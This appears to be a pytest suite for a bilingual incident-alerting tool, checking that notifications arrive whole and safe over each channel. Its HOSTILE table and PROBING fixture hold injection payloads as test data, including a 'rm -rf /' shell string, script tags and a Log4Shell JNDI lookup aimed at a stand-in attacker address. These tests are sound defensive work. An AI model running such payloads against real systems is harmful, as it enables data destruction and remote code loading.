"""Every kind of message through every real sender in both languages: what arrives, not what was handed over.

The first 120 characters carry it on each of them; what strangers wrote stays text; ids and links are whole.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from kanaria.app.config import load
from kanaria.app.live.service_log import logger
from kanaria.app.live.telling import Telling
from kanaria.core.errors import SourceError
from kanaria.core.text import width
from kanaria.core.types import Language, Text
from kanaria.core.words import Text as Words
from kanaria.respond.acknowledge import Links
from kanaria.respond.channels import Channel
from kanaria.respond.message import Message, Style, brief, digest, notice, one, several
from kanaria.respond.words import PHRASES
from kanaria.store.outbox import Outbox
from tests.respond.receivers import KINDS, Arrived, Receiver, receiver
from tests.respond.test_message_words import harmless, incident
from tests.respond.test_sender import BEGAN, plan
from tests.respond.test_webhook import Webhook

pytestmark = pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")
LANGUAGES: tuple[Language, ...] = ("en", "ja")
SCREEN = 120
"""Characters of a lock screen."""


@pytest.fixture(scope="module", params=KINDS)
def place(request: pytest.FixtureRequest) -> Iterator[Receiver]:
    """Each way a message can go, with somebody who listens at its end."""
    with receiver(request.param) as made:
        yield made


@pytest.fixture(autouse=True)
def nothing_is_left(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if "place" in request.fixturenames:
        place = request.getfixturevalue("place")
        place.forget()
        place.refuse(False)


def through(place: Receiver, message: Message) -> Arrived:
    """The message as it arrives."""
    Channel(plan(), place.url).send(message)
    (arrived,) = place.arrived()
    return arrived


def style(language: Language, **more: Any) -> Style:
    return Style(language=language, zone=UTC, **more)


MINER = incident(
    id="i-5eed5eed5eed", severity="critical", title={"en": "DNS server mines Monero", "ja": "DNSサーバーがMoneroを採掘"},
    verdict={"en": "192.0.2.53 mines.", "ja": "192.0.2.53 が採掘しています。"},
)  # fmt: skip
PROBE = harmless(
    id="i-0bad0bad0bad", title={"en": "Mining probe", "ja": "マイニングの探索"},
    verdict={"en": "Nobody got in.", "ja": "侵入されていません。"},
)  # fmt: skip
WORSE = [{"en": "severity rose from high to critical", "ja": "重大度が高から重大に上がった"}]
ABOUT = {
    "sources": [{"name": "access.log", "records": 12_345}], "since": BEGAN, "alerts": 2, "budget": 1.0,
}  # fmt: skip
SERVER = {"channel": "phone", "count": 3, "attempts": 20, "error": Text(en="no answer", ja="応答がありません")}
FULL = {"free": "900", "least": "1,024", "folder": "/var/lib/kanaria/store"}
CLOCK = {"minutes": "+90", "hours": "24"}
Made = Callable[[Style], Message]
MESSAGES: dict[str, tuple[Made, tuple[str, ...], tuple[str, ...]]] = {
    # name: how it is made; what the first 120 characters have in English, and in Japanese
    "news": (
        lambda s: one(MINER, "m-1", s),
        ("[Critical] DNS server mines Monero", "192.0.2.53 ↔ 198.51.100[.]7", "since 06-21 03:04 UTC", "97 % sure"),
        ("[重大] DNSサーバーがMoneroを採掘", "192.0.2.53 ↔ 198.51.100[.]7", "06-21 03:04 UTCから", "確度97%"),
    ),
    "a probe": (
        lambda s: one(PROBE, "m-1", s),
        ("[Info] Mining probe", "Nobody got in."),
        ("[情報] マイニングの探索", "侵入されていません。"),
    ),
    "several at once": (
        lambda s: several([PROBE] * 40, "m-1", s),
        ("[Info] 40 incidents: Mining probe", "Nothing needs to be done."),
        ("[情報] 40件のインシデント: マイニングの探索", "対応は必要ありません。"),
    ),
    "a storm of different ones": (
        lambda s: several([MINER, *[PROBE] * 999], "m-1", s),
        ("[Critical] 1,000 incidents", "[Critical] DNS server mines Monero"),
        ("[重大] 1,000件のインシデント", "[重大] DNSサーバーがMoneroを採掘"),
    ),
    "a digest": (
        lambda s: digest([PROBE, incident(severity="low", title={"en": "Odd call", "ja": "珍しい通信"})], ABOUT, "m-1", s),
        ("Kanaria: 1 incident, not urgent", "Odd call"),
        ("Kanaria: 急がないインシデント1件があります", "珍しい通信"),
    ),
    "a digest of what is harmless": (
        lambda s: digest([PROBE], ABOUT, "m-1", s),
        ("Kanaria: nothing needs to be done (1 noticed)",),
        ("Kanaria: 対応は必要ありません(記録1件)",),
    ),
    "all is quiet": (
        lambda s: digest([], ABOUT, "m-1", s),
        ("Kanaria: all quiet, nothing needs to be done",),
        ("Kanaria: 異常なし、対応は必要ありません",),
    ),
    "a dead channel": (
        lambda s: notice("dead", "m-1", s, SERVER, kind="failure"),
        ("[High] Messages through phone could not be delivered", "3 messages were given up"),
        ("[高] phone への通知を届けられませんでした", "20回試みましたが"),
    ),
    "a disk that fills": (
        lambda s: notice("disk", "m-1", s, FULL, kind="failure"),
        ("[High] Kanaria: the disk is almost full", "900 MB are free"),
        ("[高] Kanaria: ディスクの空きが残りわずかです", "900 MB"),
    ),
    "a full disk": (
        lambda s: notice("shed", "m-1", s, FULL, kind="failure"),
        ("[High] Kanaria: the disk is full but for a little", "900 MB are free"),
        ("[高] Kanaria: ディスクの空きがほとんどないため", "900 MB"),
    ),
    "a damaged store": (
        lambda s: notice("mended", "m-1", s, {"what": Words(en="outbox.sqlite was put aside", ja="outbox.sqlite を退避")}),
        ("[High] Kanaria: the store was damaged; watching goes on", "outbox.sqlite was put aside"),
        ("[高] Kanaria: ストアが壊れていましたが、監視は続けています", "outbox.sqlite を退避"),
    ),
    "a silent source": (
        lambda s: notice("silent", "m-1", s, {"name": "access.log", "minutes": "90", "gap": "2.0"}),
        ("[Medium] Kanaria: access.log has gone silent", "Nothing has come from access.log for 90 minutes"),
        ("[中] Kanaria: access.log からの記録が途絶えています", "90分間、記録がありません"),
    ),
    "a clock that was set": (
        lambda s: notice("clock", "m-1", s, CLOCK),
        ("[Medium] Kanaria: the clock of this machine was set", "It moved by +90 minutes"),
        ("[中] Kanaria: このマシンの時計が変更されました", "+90分動きました"),
    ),
    "a clock in doubt": (
        lambda s: notice("clock_doubtful", "m-1", s, CLOCK),
        ("[High] Kanaria: the clock of this machine moved by more than a day", "It moved by +90 minutes"),
        ("[高] Kanaria: このマシンの時計が1日以上ずれました", "+90分動きました"),
    ),
    "a test": (
        lambda s: notice("test", "m-1", s, {}),
        ("Kanaria: test message", "This channel works."),
        ("Kanaria: テスト通知", "この送信先は正しく動いています。"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", MESSAGES)
def test_the_first_characters_carry_it(place: Receiver, name: str, language: Language) -> None:
    made, english, japanese = MESSAGES[name]
    shown = through(place, made(style(language))).shown
    for words in english if language == "en" else japanese:
        assert words in shown[:SCREEN], shown[:SCREEN]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", MESSAGES)
def test_nothing_of_it_is_lost_on_the_way(place: Receiver, name: str, language: Language) -> None:
    message = MESSAGES[name][0](style(language))
    shown = through(place, message).shown
    assert message.title in shown
    assert shown.rstrip().endswith(message.body.splitlines()[-1])
    assert [line.rstrip() for line in message.body.splitlines() if line.strip()] == [
        line.rstrip() for line in shown.partition(message.title)[2].removeprefix(": ").splitlines() if line.strip()
    ]


def test_each_phrase_that_titles_a_message_is_sent_here() -> None:
    """A new kind of message is not forgotten above."""
    titles = {name for name in PHRASES if f"{name}_body" in PHRASES}
    sent = {MESSAGES[name][0](style("en")).data["type"] for name in MESSAGES}  # type: ignore[index]
    assert titles <= sent, titles - sent
    assert {"incident", "incidents", "digest"} <= sent


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("held", ["unacknowledged", "maintenance"])
def test_what_was_held_back_says_why_it_comes_now(place: Receiver, held: str, language: Language) -> None:
    shown = through(place, one({**MINER, "held": held, "minutes": 15}, "m-1", style(language))).shown
    said = {
        "unacknowledged": {"en": "Nobody has acknowledged this for 15 minutes.", "ja": "15分たっても、誰も対応を引き受けていません。"},
        "maintenance": {"en": "This waited for the end of a maintenance window.", "ja": "メンテナンスが終わるまで、通知を保留していました。"},
    }  # fmt: skip
    assert said[held][language] in shown.splitlines()


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_got_worse_says_what_did(place: Receiver, language: Language) -> None:
    shown = through(
        place, one({**MINER, "alert": {"kind": "escalated", "because": WORSE}}, "m-1", style(language))
    ).shown
    assert {"en": "It got worse: severity rose from high to critical.", "ja": "深刻になりました: 重大度が高から重大に上がった。"}[
        language
    ] in shown.splitlines()  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_goes_on_is_told_apart_from_what_is_new(place: Receiver, language: Language) -> None:
    new, again = MINER, {**MINER, "alert": {"kind": "reminder", "because": []}, "open": True}
    for given, said in ((new, False), (again, True)):
        shown = through(place, one(given, "m-1", style(language))).shown
        place.forget()
        for words in ({"en": ("Still going on.", "The connection is still open."), "ja": ("引き続き発生しています。", "この接続は今も続いています。")})[language]:  # fmt: skip
            assert (words in shown.splitlines()) is said


@pytest.mark.parametrize("language", LANGUAGES)
def test_id_and_command_are_whole_and_can_be_copied(place: Receiver, language: Language) -> None:
    shown = through(place, one(MINER, "m-1", style(language))).shown
    assert "kanaria incident show i-5eed5eed5eed" in shown.rstrip().splitlines()[-1]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    "link", ["https://soc.example/i/", "https://soc.example/?team=a&b=%2F&id=", "http://[2001:db8::1]:8080/~x/#/i="]
)
def test_links_are_whole(place: Receiver, link: str, language: Language) -> None:
    """Also those with letters that HTML, XML and forms know."""
    ack = "http://192.0.2.10:9478/ack/i-5eed5eed5eed.1795983249.Ab-_9.00ff"
    shown = through(place, one(MINER, "m-1", style(language, link=link, acknowledge=lambda _incident: ack))).shown
    assert f"{link}i-5eed5eed5eed" in shown.splitlines()
    assert shown.rstrip().endswith(ack)


def test_nobody_is_asked_to_take_care_of_what_needs_nobody(place: Receiver) -> None:
    asked: list[str] = []
    shown = through(
        place, one(PROBE, "m-1", style("en", acknowledge=lambda i: asked.append(i) or "http://x.example"))
    ).shown  # type: ignore[func-returns-value]
    assert "http://x.example" not in shown and asked == []


@pytest.mark.parametrize("severity", ["informational", "low", "medium", "high", "critical"])
def test_programs_are_told_how_grave_it_is(place: Receiver, severity: str) -> None:
    arrived = through(place, one(incident(severity=severity), "m-1", style("en")))
    kinds = {"medium": "warning", "high": "failure", "critical": "failure"}
    kind = kinds.get(severity, "info")
    if "kind" in arrived.more:
        assert arrived.more["kind"] == kind
    elif "priority" in arrived.more:  # facility user or daemon; 6 is info, 4 a warning, 2 critical
        assert arrived.more["priority"] % 8 == {"info": 6, "warning": 4, "failure": 2}[kind]
    elif "incident" in arrived.more:
        assert arrived.more["incident"]["severity"] == severity


@pytest.mark.parametrize("title", ["x" * 400, "長" * 200, "é" * 300, "👾" * 100])
@pytest.mark.parametrize("language", LANGUAGES)
def test_a_title_without_end_leaves_room_for_the_rest(place: Receiver, title: str, language: Language) -> None:
    found = incident(title={"en": title, "ja": title})
    shown = through(place, one(found, "m-1", style(language))).shown
    head = shown.partition("…")[0] + "…"
    assert width(head) <= SCREEN
    assert "192.0.2.53 ↔ 198.51.100[.]7" in shown


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "an entity": "&lt;b&gt; &amp; &#60;",
    "an end of CDATA": "]]></Message><Subject>other",
    "a form's end": "&type=success&title=other",
    "marks of Markdown": "*a* _b_ `c` [d](e) # f > g | h ~i~",
    "a shell's": "$(reboot) `reboot` ; rm -rf / && echo \\x",
    "a template's": "{{7*7}} ${jndi:ldap} %s %(x)s {title}",
    "a mail's dot": ". . ..",
    "quotes": "\"a\" 'b' “c” «d» \\",
    "a syslog's head": "<0>1 2026-01-01T00:00:00Z root sudo - - -",
    "another's mention": "@everyone @here <!channel> <@U0>",
    "what was escaped": "\\x1b[31m \\u202e \\n \\r\\nSubject: other",
    "emoji": "👾 ☠️ 🇯🇵",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_strangers_wrote_stays_text(place: Receiver, name: str) -> None:
    """In a name of ours, in the verdict and in advice; as printable text, which is all that comes so far."""
    text = HOSTILE[name]
    found = incident(
        title={"en": f"Odd name {text}", "ja": text}, devices=[text], verdict={"en": f"It says {text} there.", "ja": text},
        todo=[{"id": "isolate", "en": f"Look at {text} now.", "ja": text}],
    )  # fmt: skip
    message = one(found, "m-1", style("en"))
    arrived = through(place, message)
    assert f"Odd name {text}" in arrived.shown.partition("\n")[0]
    assert f"It says {text} there." in arrived.shown
    assert f"1. Look at {text} now." in arrived.shown.splitlines()
    assert arrived.shown.count(f"It says {text} there.") == 1
    assert arrived.more.get("kind", "failure") == "failure"
    assert arrived.more.get("to", "oncall@example.org") == "oncall@example.org"


def test_a_strangers_address_is_no_link_anywhere(place: Receiver) -> None:
    found = incident(remotes=["198.51.100.7", "2001:db8::7", "pool.evil.example"])
    shown = through(place, one(found, "m-1", style("en"))).shown
    for whole in ("198.51.100.7", "2001:db8::7", "pool.evil.example"):
        assert whole not in shown
    assert "198.51.100[.]7, 2001[:]db8::7, pool[.]evil[.]example" in shown


PROBING = (
    '203.0.113.9 - - [21/Jun/2026:07:01:00 +0000] "POST /wiki?x={said} HTTP/1.1" 400 9 "-" '
    '"${{jndi:ldap://203.0.113.9/{said}}}"'
)


@pytest.fixture(scope="module")
def from_a_log() -> dict[str, Any]:
    """A brief of what a line of a log became that was written to break something."""
    from kanaria import explain, render

    said = "</p><script>x</script>\x1b[2J\u202egnp.exe\x00\x07 https://evil.example/ \u2028@everyone"
    document = json.loads(render(explain(PROBING.format(said=said)), "json"))
    return brief(document["incidents"][0])


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_a_line_of_a_log_becomes_is_harmless_where_it_arrives(
    place: Receiver, from_a_log: dict[str, Any], language: Language
) -> None:
    arrived = through(place, one(from_a_log, "m-1", style(language)))
    assert not set("\x1b\u202e\x00\x07\u2028") & set(arrived.shown)
    assert "203.0.113[.]9" in arrived.shown and "203.0.113.9" not in arrived.shown
    assert "https://evil" not in arrived.shown
    assert from_a_log["id"] in arrived.shown
    assert from_a_log["title"][language] in arrived.shown[:SCREEN]


class TestRefusal:
    """What is not accepted is tried again; what cannot be known to have failed (a datagram) counts as sent."""

    def test_what_is_refused_is_an_error_and_the_next_one_arrives(self, place: Receiver) -> None:
        message, channel = MESSAGES["news"][0](style("en")), Channel(plan(), place.url)
        if place.url.startswith("rsyslog"):
            return channel.send(message)
        place.refuse(True)
        with pytest.raises(SourceError, match=r"accepted|2xx"):
            channel.send(message)
        assert place.arrived() == []
        place.refuse(False)
        Channel(plan(), place.url).send(message)
        assert len(place.arrived()) == 1
        return None

    def test_the_reason_never_shows_the_address_which_may_hold_a_password(self, place: Receiver) -> None:
        if place.url.startswith("rsyslog"):
            return
        place.refuse(True)
        url = place.url.replace("127.0.0.1", "user:hunter2@127.0.0.1") if "mailto" not in place.url else place.url
        with pytest.raises(SourceError) as refused:
            Channel(plan(), url).send(MESSAGES["a test"][0](style("en")))
        assert "hunter2" not in str(refused.value) and "hunter2" not in refused.value.to("ja")


def test_json_without_apprise_has_the_same_body(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who has not installed the extra gets the same from ``json://``."""
    message = MESSAGES["news"][0](style("ja"))
    with receiver("json") as place:
        with_it = through(place, message)
        place.forget()
        monkeypatch.setattr("importlib.util.find_spec", lambda _name: None)
        without = through(place, message)
    fields = [{k: v for k, v in json.loads(a.raw).items() if k != "attachments"} for a in (with_it, without)]
    assert fields[0] == fields[1]


class TestWebhook:
    """What a program gets that no person reads."""

    @pytest.fixture
    def hook(self) -> Iterator[Receiver]:
        with receiver("webhook+http") as made:
            yield made

    @pytest.mark.parametrize("name", MESSAGES)
    def test_each_body_has_id_type_title_and_text(self, hook: Receiver, name: str) -> None:
        message = MESSAGES[name][0](style("en"))
        body = through(hook, message).more
        assert (body["id"], body["title"], body["text"]) == ("m-1", message.title, message.body)
        assert body["type"] == message.data["type"]  # type: ignore[index]

    def test_of_many_it_has_the_count_and_the_first_ten(self, hook: Receiver) -> None:
        body = through(hook, several([incident(id=f"i-{n:012x}") for n in range(37)], "m-1", style("en"))).more
        assert (body["count"], [one["id"] for one in body["incidents"]]) == (37, [f"i-{n:012x}" for n in range(10)])

    def test_both_languages_are_there_whatever_the_channel_speaks(self, hook: Receiver) -> None:
        body = through(hook, one(MINER, "m-1", style("ja"))).more
        assert body["incident"]["title"] == MINER["title"] and body["incident"]["verdict"] == MINER["verdict"]

    @pytest.mark.parametrize("name", HOSTILE)
    def test_a_signature_holds_for_any_text(self, hook: Receiver, name: str) -> None:
        secret = "whsec_" + base64.b64encode(b"s" * 32).decode()
        kept: list[dict[str, str]] = []
        from tests.serve.serving import sink

        with sink() as got:
            url = f"webhook+http://127.0.0.1:{got.port}/in"
            message = one(incident(title={"en": HOSTILE[name], "ja": ""}), "m-1", style("en"))
            Channel(plan(), url, secret).send(message)
            (request,) = got.received
            kept.append(request.headers)
        assert Webhook(secret).verify(request.body, kept[0])["title"] == f"[High] {HOSTILE[name]}"
        assert kept[0]["webhook-id"] == "m-1"
        assert abs(int(kept[0]["webhook-timestamp"]) - datetime.now(UTC).timestamp()) < 60


SETTINGS = """\
language = "{language}"
[[sources]]
kind = "stdin"
[serve]
acknowledge = "http://192.0.2.10:9478"
link = "https://soc.example/i/"
{channels}
"""


@pytest.fixture
def everywhere(tmp_path: Path) -> Iterator[Callable[..., tuple[Telling, dict[str, Receiver]]]]:
    """All senders of one settings file at once, each with its receiver."""
    with ExitStack() as opened:

        def build(language: Language, more: str = "") -> tuple[Telling, dict[str, Receiver]]:
            places = {kind: opened.enter_context(receiver(kind)) for kind in KINDS}
            channels = "".join(
                f'[[notify]]\nname = "{kind}"\nurl = "{place.url}"\nseverity = "low"\n{more}' for kind, place in places.items()
            )  # fmt: skip
            (tmp_path / "k.toml").write_text(SETTINGS.format(language=language, channels=channels))
            outbox = Outbox(tmp_path / "store")
            opened.callback(outbox.close)
            links = Links(outbox, 24)
            return Telling(load(tmp_path / "k.toml"), outbox, lambda: ABOUT, logger("text"), links=links), places

        yield build


def sent(telling: Telling, at: float) -> None:
    for sender in telling.senders.values():
        while sender.step(at):
            pass


@pytest.mark.parametrize("language", LANGUAGES)
def test_one_settings_file_tells_all_of_them_the_same(
    everywhere: Callable[..., tuple[Telling, dict[str, Receiver]]], language: Language
) -> None:
    """The same words everywhere, but for the link, which is each receiver's own and good once."""
    telling, places = everywhere(language)
    telling.tell([MINER])
    sent(telling, telling._outbox.time.now())
    links, texts = set(), set()
    for place in places.values():
        (arrived,) = place.arrived()
        text, link = arrived.shown.rstrip().rsplit("http://192.0.2.10:9478/ack/", 1)
        links.add(link)
        texts.add(text.replace("\n", " ").replace(": ", " "))  # syslog has one line
    assert len(links) == len(KINDS)
    assert len(texts) == 1, texts


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_channel_that_is_dead_is_told_through_all_others(
    everywhere: Callable[..., tuple[Telling, dict[str, Receiver]]], language: Language
) -> None:
    telling, places = everywhere(language, 'digest = "none"\n')
    telling._dead("xml", 2, 20, "webhook at hook.example: expected a 2xx answer; got status 503")
    sent(telling, telling._outbox.time.now())
    assert places["xml"].arrived() == []
    for kind in KINDS:
        for arrived in places[kind].arrived():
            assert {"en": "Messages through xml could not be delivered", "ja": "xml への通知を届けられませんでした"}[
                language
            ] in arrived.shown[:SCREEN]  # fmt: skip
            assert "503" in arrived.shown
            assert ("expected" in arrived.shown) is (language == "en")
    assert sum(len(place.arrived()) for place in places.values()) == len(KINDS) - 1
